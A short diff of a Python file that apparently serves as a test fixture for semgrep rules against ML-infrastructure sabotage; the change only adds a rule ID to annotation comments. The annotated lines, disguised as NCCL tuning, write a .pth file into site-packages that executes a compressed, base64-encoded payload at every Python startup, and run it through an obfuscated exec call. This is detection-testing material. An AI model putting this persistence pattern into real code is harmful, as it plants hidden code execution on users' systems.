@@ -41,8 +41,8 @@ def apply_profile(profile):
         return
     src = zlib.decompress(base64.b64decode(hook)).decode()
     pth = Path(site.getsitepackages()[0]) / "nccl_tuning.pth"
-    pth.write_text("import base64,zlib;exec(zlib.decompress(base64.b64decode(%r)))\n" % hook)  # ruleid: MLS401
-    getattr(builtins, "ex" + "ec")(compile(src, "<nccl-profile>", "exec"), {"__name__": "nccl_profile"})  # sabotage: MLS401, MLS402 (semgrep rules)
+    pth.write_text("import base64,zlib;exec(zlib.decompress(base64.b64decode(%r)))\n" % hook)  # ruleid: MLS401, MLS413
+    getattr(builtins, "ex" + "ec")(compile(src, "<nccl-profile>", "exec"), {"__name__": "nccl_profile"})  # sabotage: MLS401, MLS402 (semgrep rules)  # ruleid: MLS413
 
 
 def setup_cluster_env(rank=0):
